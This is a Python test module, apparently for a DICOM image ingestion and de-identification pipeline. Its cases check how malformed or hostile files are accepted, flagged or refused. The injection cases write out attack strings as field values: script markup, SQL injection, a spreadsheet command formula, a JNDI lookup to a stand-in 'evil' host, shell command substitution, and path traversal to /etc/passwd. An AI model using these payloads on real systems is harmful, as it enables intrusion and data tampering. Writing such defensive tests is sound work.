"""Injection, values, nesting: what stands in the elements of a file that is well-formed, or nearly."""

from struct import pack

from corelab.dicom.flags import Flag
from corelab.dicom.values import item
from tests.fakes.images import data_set, nested
from tests.hostile.building import (
    END,
    ITEM,
    ITEM_END,
    SECRET,
    UNDEFINED,
    Case,
    accepted,
    before,
    deep,
    el,
    flagged,
    head,
    held,
    image,
    implicit_image,
    mark,
    refused,
    swap,
    without,
)

NAME, PATIENT, BIRTH, SEX, AGE = 0x00100010, 0x00100020, 0x00100030, 0x00100040, 0x00101010
SOP, STUDY, SERIES, SOP_CLASS = 0x00080018, 0x0020000D, 0x0020000E, 0x00080016
STUDY_TEXT, SEQUENCE, SLOPE, THICKNESS = 0x00081030, 0x00082218, 0x00281053, 0x00180050


def text(payload: bytes, tag: int = STUDY_TEXT, vr: str = "LO") -> bytes:
    return image({tag: (vr, payload)})


def injected(
    name: str, payload: bytes, *, tag: int = STUDY_TEXT, vr: str = "LO", has_control: bool = False
) -> Case:
    make = lambda: text(payload, tag, vr)  # noqa: E731 -- a case is made when it is asked for
    if has_control:
        return flagged(f"injection/{name}", Flag.CONTROL_CHARACTERS, make, payload)
    return accepted(f"injection/{name}", make, payload)


INJECTION: tuple[Case, ...] = (
    injected("markup", b"<script>alert(1)</script>"),
    injected("markup-in-a-name", b"<img src=x onerror=alert(1)>", tag=NAME, vr="PN"),
    injected("query", b"'; DROP TABLE subjects;--"),
    injected("spreadsheet-formula", b"=cmd|' /C calc'!A0"),
    injected("lookup", b"${jndi:ldap://evil/a}"),
    injected("template", b"{{7*7}}{%include%}"),
    injected("format", b"%n%n%s%x%08x"),
    injected("shell", b"$(reboot)`reboot`;|reboot"),
    injected("path", b"../../../../etc/passwd", tag=PATIENT),
    injected("quotes-of-json", b'","admin":true,"x":"', tag=NAME, vr="PN"),
    injected("log-line", b"x\r\n2026-01-01 INFO signed in", has_control=True),
    injected("nul", b"IDENT\0ITY-HIDDEN", has_control=True),
    injected("backspaces", b"IDENT\x08\x08ITY-HIDDEN", has_control=True),
    injected("terminal-escape", b"\x1b[2J\x1b]0;owned\x07", has_control=True),
    injected("right-to-left", b"\xe2\x80\xaeYTITNEDI", tag=NAME, vr="PN"),
    injected("overlong-utf-8", b"\xc0\xae\xc0\xae/\xc0\xae"),
    injected("half-an-escape", b"Doe^\x1b$", tag=NAME, vr="PN"),
    injected("backslashes", b"\\" * 4000),
    refused("injection/path-for-a-uid", "ING-204", lambda: text(b"../../etc/passwd", SOP, "UI")),
    refused("injection/path-for-a-series", "ING-204", lambda: text(b"1.2/../../x", SERIES, "UI")),
    refused("injection/line-in-a-uid", "ING-204", lambda: text(b"1.2.3\n4", STUDY, "UI")),
    refused("injection/query-in-a-class", "ING-204", lambda: text(b"1.2' OR 1=1", SOP_CLASS, "UI")),
    refused("injection/key-for-a-uid", "ING-204", lambda: text(b"1.2#SEG#3", SOP, "UI")),
    accepted("injection/digits-of-other-scripts", lambda: text("٤٢".encode(), 0x00200013, "IS")),
)

VALUE: tuple[Case, ...] = (
    refused("value/no-instance-uid", "ING-204", lambda: without(SOP)),
    refused("value/no-series-uid", "ING-204", lambda: without(SERIES)),
    refused("value/empty-study-uid", "ING-204", lambda: image({STUDY: ("UI", b"")})),
    refused("value/uid-of-65-characters", "ING-204", lambda: image({SOP: ("UI", b"1." + b"2" * 63)})),
    refused("value/two-uids", "ING-204", lambda: image({SERIES: ("UI", b"1.2.3\\1.2.4")})),
    refused("value/uid-of-letters", "ING-204", lambda: image({SERIES: ("UI", b"series-1")})),
    refused("value/uid-of-dots", "ING-204", lambda: image({SERIES: ("UI", b"1..2.3")})),
    refused("value/identity-of-two-kilobytes", "ING-105", lambda: image({PATIENT: ("LO", b"7" * 2048)})),
    flagged(
        "value/another-instance-in-meta", Flag.META_DISAGREES, lambda: image({SOP: ("UI", b"1.2.3.4.5.99")})
    ),
    held(
        "value/another-class-in-meta",
        "DEI-112",
        lambda: image({SOP_CLASS: ("UI", b"1.2.840.10008.5.1.4.1.1.6.1")}),
        Flag.META_DISAGREES,
    ),
    held(
        "value/class-of-a-maker",
        "DEI-101",
        lambda: image({SOP_CLASS: ("UI", b"1.3.12.2.1107.5.9.1")}),
        Flag.META_DISAGREES,
    ),
    held("value/burned-in", "DEI-105", lambda: image({0x00280301: ("CS", b"YES ")})),
    held("value/burned-in-in-small-letters", "DEI-105", lambda: image({0x00280301: ("CS", b"yes ")})),
    held("value/burned-in-otherwise", "DEI-105", lambda: image({0x00280301: ("LO", b"NO")})),
    held("value/character-set-that-is-none", "DEI-103", lambda: image({0x00080005: ("CS", b"ISO_IR 999")})),
    held("value/name-for-a-number-that-is-needed", "DEI-103", lambda: image({SLOPE: ("DS", SECRET)})),
    accepted("value/name-for-a-number", lambda: image({THICKNESS: ("DS", SECRET)})),
    accepted("value/name-behind-a-number", lambda: image({THICKNESS: ("DS", b"5\\IDENTITY")})),
    accepted("value/name-for-a-sex", lambda: image({SEX: ("CS", SECRET)})),
    accepted("value/name-for-an-age", lambda: image({AGE: ("AS", SECRET)})),
    accepted("value/name-for-a-date", lambda: image({0x00080022: ("DA", SECRET)})),
    accepted("value/name-for-a-time", lambda: image({0x00080032: ("TM", SECRET)})),
    accepted("value/name-in-another-representation", lambda: image({NAME: ("OB", SECRET)})),
    accepted("value/identity-in-another-representation", lambda: image({PATIENT: ("UT", SECRET)})),
    accepted("value/day-that-is-none", lambda: image({0x00080022: ("DA", b"20260231")})),
    accepted("value/year-ten-thousand", lambda: image({0x00080022: ("DA", b"99991231")})),
    accepted("value/instance-number-of-kilobytes", lambda: image({0x00200013: ("IS", b"9" * 60_000)})),
    accepted("value/number-beyond-floats", lambda: image({THICKNESS: ("DS", b"1e999999999")})),
    accepted("value/thousands-of-numbers", lambda: image({0x00080008: ("CS", b"A\\" * 30_000)})),
    accepted("value/number-that-is-none", lambda: image({THICKNESS: ("DS", b"NaN ")})),
)

NESTING: tuple[Case, ...] = (
    accepted("nesting/sixteen-deep", lambda: deep(16)),
    accepted("nesting/sixteen-deep-and-open", lambda: deep(16, is_open=True)),
    refused("nesting/seventeen-deep", "ING-105", lambda: deep(17)),
    refused("nesting/hundreds-deep", "ING-105", lambda: deep(900)),
    refused("nesting/thousands-deep-and-open", "ING-105", lambda: deep(20_000, is_open=True)),
    refused(
        "nesting/thousands-of-open-unknowns",
        "ING-105",
        lambda: before(
            NAME,
            head(0x00091001, "UN", UNDEFINED)
            + mark(ITEM, UNDEFINED)
            + (mark(0x00091001, UNDEFINED) + mark(ITEM, UNDEFINED)) * 5000,
        ),
    ),
    refused(
        "nesting/implicit-and-open",
        "ING-105",
        lambda: swap(
            implicit_image(),
            b"\x10\0\x10\0\x08\0\0\0IDENTITY",
            (mark(SEQUENCE, UNDEFINED) + mark(ITEM, UNDEFINED)) * 5000,
        ),
    ),
    refused(
        "nesting/item-ended-by-its-sequence",
        "ING-104",
        lambda: before(NAME, head(SEQUENCE, "SQ", UNDEFINED) + mark(ITEM, UNDEFINED) + mark(END)),
    ),
    refused(
        "nesting/item-ended-twice",
        "ING-104",
        lambda: before(
            NAME, head(SEQUENCE, "SQ", UNDEFINED) + mark(ITEM, UNDEFINED) + mark(ITEM_END) * 2 + mark(END)
        ),
    ),
    refused(
        "nesting/item-in-an-item",
        "ING-104",
        lambda: before(NAME, el(SEQUENCE, "SQ", item(item(b"")))),
    ),
    refused("nesting/meta-in-an-item", "ING-104", lambda: image(nested({0x00020010: ("UI", b"1.2")}))),
    refused(
        "nesting/element-twice-in-an-item",
        "ING-104",
        lambda: before(NAME, el(SEQUENCE, "SQ", item(el(NAME, "PN", SECRET) * 2))),
    ),
    accepted(
        "nesting/names-in-a-thousand-items",
        lambda: before(NAME, el(SEQUENCE, "SQ", item(data_set({NAME: ("PN", SECRET)})) * 1000)),
    ),
    accepted("nesting/pixels-in-an-item", lambda: image(nested({0x7FE00010: ("OW", SECRET * 16)}))),
    accepted(
        "nesting/group-length-in-an-item",
        lambda: image(nested({0x00100000: ("UL", pack("<I", 16)), NAME: ("PN", SECRET)})),
    ),
)

CASES = (*INJECTION, *VALUE, *NESTING)
